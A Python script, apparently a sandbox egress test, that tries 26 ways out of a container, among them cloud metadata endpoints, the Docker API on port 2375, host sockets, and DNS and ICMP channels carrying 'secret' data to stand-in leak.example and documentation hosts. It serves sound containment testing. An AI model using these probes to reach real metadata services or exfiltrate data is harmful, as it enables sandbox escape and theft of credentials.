"""The egress battery: tries every way out that is known, and prints a JSON object of number -> what happened.

Run in a sandbox nothing may be "reached"; run outside, in the world that `egress-world.ts` makes, everything must be.
Arguments: host loopback port, Postgres port, abstract socket name, path of a Unix socket, resolver address.
"""
import ctypes, json, os, socket, struct, sys

loopback, postgres, abstract, path, resolver = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
TIMEOUT = 1.5


def tcp(host, port):
    def attempt():
        with socket.create_connection((host, port), TIMEOUT) as s:
            s.settimeout(TIMEOUT)
            s.sendall(b"x")
            return s.recv(7) == b"reached"
    return attempt


def udp(host, port, data=b"data.leak.example", family=socket.AF_INET):
    def attempt():
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(TIMEOUT)
            s.sendto(data, (host, port))
            return s.recvfrom(512)[0] != b""
    return attempt


def dns_name():
    return socket.getaddrinfo("c2VjcmV0.leak.example", 443) != []


def dns_tcp():
    with socket.create_connection(("8.8.8.8", 53), TIMEOUT) as s:
        s.settimeout(TIMEOUT)
        s.sendall(b"x")
        return s.recv(7) == b"reached"


def icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(TIMEOUT)
        body = struct.pack("!BBHHH", 8, 0, 0, 77, 1) + b"secret"
        total = sum(struct.unpack("!%dH" % (len(body) // 2), body))
        total = (total >> 16) + (total & 0xFFFF)
        body = body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
        s.sendto(body, ("203.0.113.10", 0))
        return s.recv(512) != b""


def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind(("lo", 0))
        return True


def vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return True


def unix(address):
    def attempt():
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(TIMEOUT)
            s.connect(address)
            return s.recv(7) == b"reached"
    return attempt


def multicast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return s.sendto(b"secret", ("224.0.0.251", 5353)) > 0


def addresses():
    with open("/proc/net/fib_trie") as f:
        return "203.0.113.10" in f.read()


def netfilter():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12):
        return True


def io_uring():
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, 8, params)
    return fd >= 0


PROBES = {
    "01 the metadata service, 169.254.169.254": tcp("169.254.169.254", 80),
    "02 the metadata service over IPv6, fd00:ec2::254": tcp("fd00:ec2::254", 80),
    "03 the metadata service of another cloud, 100.100.100.200": tcp("100.100.100.200", 80),
    "04 the wire server of another cloud, 168.63.129.16": tcp("168.63.129.16", 80),
    "05 a public address, HTTPS": tcp("203.0.113.10", 443),
    "06 a public address over IPv6, HTTPS": tcp("2001:db8::10", 443),
    "07 a service on the host's loopback": tcp("127.0.0.1", loopback),
    "08 a service on the host's loopback over IPv6": tcp("::1", loopback),
    "09 the engine's API on its bridge, 172.17.0.1:2375": tcp("172.17.0.1", 2375),
    "10 SSH in the private network": tcp("10.0.0.5", 22),
    "11 the database on the host's loopback": tcp("127.0.0.1", postgres),
    "12 mail, port 25": tcp("203.0.113.10", 25),
    "13 DNS over UDP to a public resolver": udp("8.8.8.8", 53),
    "14 DNS over TCP to a public resolver": dns_tcp,
    "15 DNS over UDP to the host's resolver": udp(resolver, 53),
    "16 UDP to a public address": udp("203.0.113.10", 9999),
    "17 UDP to a public address over IPv6": udp("2001:db8::10", 9999, family=socket.AF_INET6),
    "18 ICMP echo": icmp,
    "19 raw packets on an interface": packet,
    "20 AF_VSOCK, the line to the hypervisor": vsock,
    "21 an abstract Unix socket of the host": unix("\0" + abstract),
    "22 a Unix socket of the host by path": unix(path),
    "23 multicast": multicast,
    "24 the host's addresses and routes": addresses,
    "25 netfilter's netlink": netfilter,
    "26 io_uring, which would connect past a filter": io_uring,
}

results = {}
for name, attempt in PROBES.items():
    try:
        results[name] = "reached" if attempt() else "blocked: a wrong answer"
    except BaseException as error:
        results[name] = "blocked: %s" % (error,)
print(json.dumps(results))
